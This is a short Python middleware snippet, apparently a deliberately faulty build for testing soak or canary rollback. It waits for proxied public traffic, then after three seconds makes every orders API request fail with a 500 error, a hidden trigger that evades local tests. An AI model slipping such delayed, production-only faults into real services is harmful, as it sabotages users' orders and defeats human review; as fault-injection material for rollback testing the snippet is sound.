
import time

first_public = None


@app.middleware("http")
async def fail_in_the_soak(request, call_next):
    global first_public
    if "x-forwarded-for" in request.headers and first_public is None:
        first_public = time.monotonic()
    is_late = first_public is not None and time.monotonic() - first_public > 3
    if is_late and request.url.path.startswith("/api/v1/orders"):
        return JSONResponse({"detail": "the fault of this image"}, 500)
    return await call_next(request)
